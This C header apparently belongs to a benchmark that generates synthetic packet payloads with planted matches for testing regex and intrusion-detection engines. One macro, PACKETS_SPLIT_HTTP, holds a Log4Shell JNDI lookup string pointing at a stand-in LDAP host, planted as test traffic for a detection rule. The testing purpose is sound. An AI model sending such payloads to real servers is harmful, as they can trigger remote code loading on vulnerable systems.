/*
 * packets.h - packet payloads for the payload suite: generated from a
 * seed with a known number of planted matches, or read from a pcap file
 * (corpora/pcap.h).
 *
 * A struct packets is one buffer holding every payload back to back and
 * an array of (pointer, length) views into it, so the measured loop reads
 * two words per packet and nothing else.  Generated sets also say, per
 * packet, what the generator planted (`mark`), which is the reference the
 * suite verifies every engine against.
 *
 * Three generated kinds:
 *   PACKETS_LITERAL   printable filler, a fraction carries "private"
 *   PACKETS_FULLSCAN  printable filler, a fraction carries "pri" ... "ate"
 *   PACKETS_HTTP      HTTP requests (request line, headers, body) cut to
 *                     the size, a fraction carrying one attack that the
 *                     built-in rules (corpora/rules.h) detect
 * Every generated set is also cut into flows of PACKETS_FLOW_MIN to
 * PACKETS_FLOW_MAX consecutive packets (the same packets: block mode reads
 * them one by one, as before flows existed).  In a fraction match_rate of
 * the flows of two packets or more, a plant is split across a boundary
 * between two packets that carry nothing else: "private" (LITERAL,
 * FULLSCAN) or PACKETS_SPLIT_HTTP (HTTP, the log4shell rule), cut so
 * that neither packet matches alone and the flow matches as a stream.
 * A "pri" that filler would make across a boundary is broken as within
 * a packet.
 *
 * The printable filler never contains "pri", so the literal and full-scan
 * patterns match exactly the planted packets; the HTTP filler never
 * matches a built-in rule, so mark[i] is exactly the set of rules that
 * match packet i (tests/test_payload.c checks both claims).
 */
#ifndef RXB_PACKETS_H
#define RXB_PACKETS_H

#include <stddef.h>
#include <stdint.h>

enum packets_kind {
	PACKETS_LITERAL,
	PACKETS_FULLSCAN,
	PACKETS_HTTP,
	PACKETS_KIND_COUNT, /* not a kind: how many there are */
};

/* One payload: a view into packets.buf. */
struct packet {
	const char *p;
	size_t len;
};

struct packets {
	char *buf;            /* every payload back to back; owned */
	struct packet *pkt;   /* n views into buf; owned */
	size_t n;
	size_t size;          /* nominal payload size; 0 when mixed (pcap) */
	double wire_bytes;    /* mean frame size on the wire, for line rate */
	double payload_bytes; /* mean payload length */
	/*
	 * Per packet, what was planted: 1/0 for LITERAL and FULLSCAN, a bit
	 * mask of built-in rule ids for HTTP.  NULL when unknown (pcap).
	 */
	uint32_t *mark;
	size_t nplanted;      /* packets with mark != 0 */
	/*
	 * Flows (NULL/0 when the set has none): flow f is the packets
	 * pkt[flow[f] .. flow[f + 1]), in stream order, their payloads back
	 * to back in buf, so that the reassembled flow is one view
	 * (packets_flow_view).  flow_mark[f] is what the flow carries as one
	 * stream, in mark's terms (NULL when unknown: pcap): its packets'
	 * marks, less a start-anchored rule planted past its first packet,
	 * plus what was planted split across two of its packets.
	 */
	size_t *flow;         /* nflows + 1 entries; owned */
	size_t nflows;
	uint32_t *flow_mark;  /* owned */
	size_t nsplit;        /* flows with a plant split across packets */
};

/* What to generate. */
struct packets_spec {
	size_t size;       /* payload bytes per packet, >= PACKETS_MIN_SIZE */
	size_t count;      /* packets; 0: packets_default_count(size) */
	double match_rate; /* fraction in [0, 1] carrying a match */
	uint64_t seed;
};

#define PACKETS_MIN_SIZE 16
#define PACKETS_MAX_SIZE 65535

/* The planted strings, exported for the suite's patterns and the tests. */
#define PACKETS_LITERAL_NEEDLE "private"
#define PACKETS_SPLIT_HTTP "${jndi:ldap://192.0.2.1/a}"
#define PACKETS_FLOW_MIN 2
#define PACKETS_FLOW_MAX 8

/*
 * The default number of packets of a size: enough payload (4 MiB) to
 * leave the core's private caches, and at least 4096 packets so a 1%
 * match rate still plants dozens.
 */
size_t packets_default_count(size_t size);

/*
 * Generate spec->count packets of spec->size bytes of `kind`.  Exactly
 * round(match_rate * count) packets are planted (fewer only for HTTP
 * packets too small to hold any attack: nplanted says how many).
 * Deterministic for a given spec.  0, or -1 out of memory or on a bad
 * spec (size out of range, rate outside [0, 1]).  Free with
 * packets_release().
 */
int packets_generate(struct packets *pk, enum packets_kind kind,
		     const struct packets_spec *spec);

void packets_release(struct packets *pk);

/*
 * The flows of pk as a set of their own: view->pkt[f] is flow f
 * reassembled (one view into pk->buf), view->mark a copy of
 * pk->flow_mark, wire_bytes pk's (line rate stays per packet).  The view
 * owns its arrays, not the bytes: release it with packets_release()
 * before pk.  0, or -1 out of memory or when pk has no flows.
 */
int packets_flow_view(const struct packets *pk, struct packets *view);

/*
 * Line rate of a `link_gbps` link in millions of packets per second for
 * frames of `frame_bytes`: L * 1e9 / ((size + 20) * 8), the 20 bytes being
 * the Ethernet preamble, start delimiter and inter-frame gap.
 */
double packets_linerate_mpps(double link_gbps, double frame_bytes);

/*
 * Planting helpers, exposed for tests: 1 when data holds "pri" followed
 * (at any distance) by "ate", i.e. when `pri.*ate` (dotall) matches.
 */
int packets_has_pri_ate(const char *data, size_t len);

#endif
